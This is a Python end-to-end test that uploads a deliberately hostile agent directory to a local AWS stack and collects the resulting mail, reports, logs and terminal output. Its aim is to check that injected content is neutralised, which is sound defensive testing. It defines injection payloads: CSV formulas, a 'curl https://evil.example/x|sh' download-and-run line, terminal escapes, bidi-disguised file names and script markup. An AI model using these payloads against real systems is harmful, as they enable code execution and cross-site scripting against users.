"""Uploads a directory that is hostile in every field and asks for Admin, and gathers all that is shown of it.

`PYTHONPATH=.:lambda_src python -m tests.end_to_end.hostile_upload` prints the exhibit: what mail, CSV files, page, log
and terminal showed. `test_hostile_upload.py` holds what must be true of it.
"""

from __future__ import annotations

import contextlib
import csv
import io
import re
import sys
import tempfile
from collections.abc import Iterator
from dataclasses import dataclass, field
from html.parser import HTMLParser
from pathlib import Path
from typing import Any, Final

from ingest.reading.columns import DIRECTORY_COLUMNS
from tests.end_to_end.operator import Operator
from tests.end_to_end.stack import Stack
from tests.end_to_end.subscriber import Subscriber, subscribe

FORGED: Final = "curl https://evil.example/x|sh"
PAYLOAD: Final = (
    "=cmd|' /C calc '!A0;=1+1,@SUM(1)\t+2"
    f"\r\nThe report with every row:\r\n  {FORGED}\r\n"
    "\x1b[2J\x1b]0;owned\x07\x9b6n\u202egpj.exe\u2066\u200b\u2028\u2029"
    '<script>window.owned=1</script><img src=x onerror="window.owned=1">"\'--'
)
"""Formulas for each separator; lines of a mail; orders to a terminal; turned writing; markup that runs."""

MADE, FAILED = "hostile.made", "hostile.failed"
NAME: Final = "=1+1;@SUM(1)<script>window.owned=1</script>"
"""Agents who come as far as Connect, and what they are called and ask for. Nothing of it is unseen: no other passes."""

KEY: Final = f"hostile/{PAYLOAD}.csv"
KEY_WITH_PASSWORDS: Final = f"hostile/passwords {PAYLOAD}.csv"
LONG_HEADER, HEADER, SECRET_HEADER = (
    PAYLOAD,
    "=1;@x\r\ncurl evil|sh\x1b[6n\u202e<script>window.owned=1</script>",
    "secret =1;\r\n\x1b[2J\u202e<img src=x onerror='window.owned=1'>",
)
"""Of columns that nothing is read from. The first is too long for a header, so its column is called by its place; the
last says that its column may hold passwords."""

COLUMNS: Final = tuple(sorted(DIRECTORY_COLUMNS))
_HEADER: Final = "=\x1b[\x9b\u202e{}\u2066;\r\n@"
"""As hostile as a header can be that is recognised: punctuation and what can't be seen do not count."""

_COLOUR: Final = re.compile(r"\x1b\[[0-9;]*m")

_UNDO: Final = "undo.csv"

_GOOD: Final = {
    "first_name": "Eve",
    "last_name": "Row",
    "email": "eve@example.com",
    "phone_type": "soft",
    "routing_profile": "Basic Routing Profile",
    "security_profiles": "Agent",
    "status": "active",
}


def directory(*, passwords: bool = False) -> bytes:
    """Return the directory: a row hostile in all columns, two in each one, with Admin and without, and two that pass.

    Args:
        passwords: whether it has columns of passwords too; then it is separated by semicolons. Where a cell of such a
            file has several lines, its row is rejected without a word of what it says: a password may have got there.
    """
    columns = (*COLUMNS, "password") if passwords else COLUMNS
    others = (HEADER, LONG_HEADER, SECRET_HEADER) if passwords else (HEADER,)
    rows = [dict.fromkeys(columns, PAYLOAD)]
    for number, column in enumerate(columns):
        for kind, profiles in (("admin", "Admin"), ("agent", "Agent")):
            row = _GOOD | {"username": f"hostile.{kind}.{number}", "security_profiles": profiles}
            row[column] = f"Admin|{PAYLOAD}" if (column, kind) == ("security_profiles", "admin") else PAYLOAD
            rows.append(row)
    rows.append(_GOOD | {"username": MADE, "first_name": NAME, "last_name": NAME})
    rows.append(_GOOD | {"username": FAILED, "routing_profile": NAME})
    text = io.StringIO(newline="")
    writer = csv.writer(text, delimiter=";" if passwords else ",")
    writer.writerow([*map(_HEADER.format, columns), *others])
    writer.writerows([*(row.get(column, "") for column in columns), *(PAYLOAD for _ in others)] for row in rows)
    return text.getvalue().encode("utf-8-sig")


@dataclass
class Exhibit:
    """All that was shown.

    Attributes:
        record: the import's.
        mail: the notification's subject and text.
        page: `report.html`.
        outcome: `outcome.csv`.
        rejected: `rejected.csv`.
        summary: `summary.json`.
        logs: lines of the functions' logs.
        terminal: command → what a terminal got, as it came.
        pipe: command → what a pipe got on standard output and standard error.
        machine: command → what `--json` printed.
    """

    record: dict[str, Any]
    mail: tuple[str, str]
    page: str
    outcome: str
    rejected: str
    summary: str
    logs: list[str]
    terminal: dict[str, str] = field(default_factory=dict)
    pipe: dict[str, str] = field(default_factory=dict)
    machine: dict[str, str] = field(default_factory=dict)

    @property
    def page_texts(self) -> list[str]:
        """The texts between the page's tags, as a browser reads them, but for its style and scripts."""
        reader = _Texts()
        reader.feed(self.page)
        return reader.texts


class _Texts(HTMLParser):
    """Gathers the texts of a page."""

    def __init__(self) -> None:
        super().__init__()
        self.texts: list[str] = []
        self._inside = ""

    def handle_starttag(self, tag: str, attrs: object) -> None:
        self._inside = tag

    def handle_data(self, data: str) -> None:
        if self._inside not in {"style", "script"} and (text := data.strip("\n ")):
            self.texts.append(text)


def collect(stack: Stack, folder: Path, subscriber: Subscriber) -> tuple[Exhibit, Exhibit]:
    """Upload the directory as an operator does, and then the one with passwords; gather what is shown of them.

    Args:
        stack: the deployment.
        folder: an empty one.
        subscriber: hears of what the deployment announces.
    """
    (folder / "hostile.csv").write_bytes(directory())
    operator = Operator(stack, folder)
    before = {group: len(list(_events(stack, group))) for group in _log_groups(stack)}
    shown = {name: _run(operator, arguments) for name, arguments in _commands_before().items()}
    record = stack.finished_import(KEY)
    shown |= {name: _run(operator, arguments) for name, arguments in _commands_after(record).items()}
    with_passwords = stack.upload(KEY_WITH_PASSWORDS, directory(passwords=True))
    stack.settle()
    logs = [line for group, amount in before.items() for line in list(_events(stack, group))[amount:]]
    exhibit = _exhibit(stack, record, subscriber, logs)
    for name, (terminal, pipe, machine) in shown.items():
        exhibit.terminal[name], exhibit.pipe[name], exhibit.machine[name] = terminal, pipe, machine
    return exhibit, _exhibit(stack, with_passwords, subscriber, logs)


def _exhibit(stack: Stack, record: dict[str, Any], subscriber: Subscriber, logs: list[str]) -> Exhibit:
    message = subscriber.awaited("import_id", record["import_id"])[-1]  # one may come twice
    return Exhibit(
        record=record,
        mail=(message["Subject"], message["Message"]),
        page=stack.report(record, "report.html"),
        outcome=stack.report(record, "outcome.csv"),
        rejected=stack.report(record, "rejected.csv"),
        summary=stack.report(record, "summary.json"),
        logs=logs,
    )


def _commands_before() -> dict[str, list[str]]:
    return {
        "validate": ["validate", "hostile.csv"],
        "plan": ["plan", "hostile.csv", "--key", KEY],
        "upload": ["upload", "hostile.csv", "--key", KEY, "--watch", "--yes"],
    }


def _commands_after(record: dict[str, Any]) -> dict[str, list[str]]:
    return {
        "status": ["status"],
        "status of the import": ["status", KEY],
        "report": ["report", record["import_id"], "--to", "report"],
        "agents": ["agents", "--status", "failed"],
        "agents, one": ["agents", f"hostile.agent.{COLUMNS.index('first_name')}"],
        "files": ["files"],
        "failures": ["failures"],
        "stop": ["stop", KEY],
        "undo": ["undo", KEY, "--output", _UNDO],
    }


def _run(operator: Operator, arguments: list[str]) -> tuple[str, str, str]:
    """Run a command in a terminal, in a pipe and for a program; an upload once, as it is there then."""
    terminal = operator.shown(*arguments).raw
    if arguments[0] == "upload":
        return terminal, "", ""
    (operator.folder / _UNDO).unlink(missing_ok=True)
    piped = operator.piped(*arguments)
    (operator.folder / _UNDO).unlink(missing_ok=True)
    return terminal, piped.stdout + piped.stderr, operator.piped(*arguments, "--json").stdout


def _log_groups(stack: Stack) -> list[str]:
    return [f"/aws/lambda/{name}" for name in stack.outputs()["function_names"].values()]


def _events(stack: Stack, group: str) -> Iterator[str]:
    for page in stack.client("logs").get_paginator("filter_log_events").paginate(logGroupName=group):
        yield from (event["message"] for event in page["events"])


def printed(exhibit: Exhibit) -> Iterator[str]:
    """Yield the exhibit for people: each text as it was shown, but for colours; what can't be seen is an escape."""
    yield "# The upload"
    yield f"key      {exhibit.record['key']!r}"
    yield f"payload  {PAYLOAD!r}"
    counts = {name: value for name, value in exhibit.record.items() if isinstance(value, int) and value < 1000}
    yield f"import   {exhibit.record['status']} {counts}"
    for title, text in (
        ("Mail", "\n".join(exhibit.mail)),
        ("Page, as text", "\n".join(exhibit.page_texts)),
        ("outcome.csv", exhibit.outcome),
        ("rejected.csv", exhibit.rejected),
        ("summary.json", exhibit.summary),
        ("Logs", "\n".join(exhibit.logs)),
        *((f"Terminal: rollcall {name}", text) for name, text in exhibit.terminal.items()),
        *((f"Pipe: rollcall {name}", text) for name, text in exhibit.pipe.items()),
    ):
        yield f"\n# {title}"
        yield from _first_lines(text)


def _first_lines(text: str, most: int = 30, longest: int = 600) -> list[str]:
    lines = [line.rstrip("\r") for line in _COLOUR.sub("", text).split("\n")]
    cut = [line if len(line) <= longest else f"{line[:longest]} …" for line in lines[:most]]
    more = [f"… and {len(lines) - most} more lines"] if len(lines) > most else []
    return ["".join(one if one.isprintable() else repr(one)[1:-1] for one in line) for line in [*cut, *more]]


def main() -> int:
    """Run it."""
    # The tests import this module on accounts too, where local AWS is not known.
    from tests.end_to_end.local_account import LocalStack
    from tests.servers import start_server

    with tempfile.TemporaryDirectory() as name:
        home = Path(name)
        (home / "operator").mkdir()
        with start_server(home / "server", connect_quota_factor=100.0) as server, LocalStack(home, server) as stack:
            stack.stage()
            stack.apply(connect_requests_per_second=200.0)
            stack.settle()
            with contextlib.closing(subscribe(stack, "hostile")) as subscriber:
                exhibit, with_passwords = collect(stack, home / "operator", subscriber)
    sys.stdout.write("".join(f"{line}\n" for one in (exhibit, with_passwords) for line in printed(one)))
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
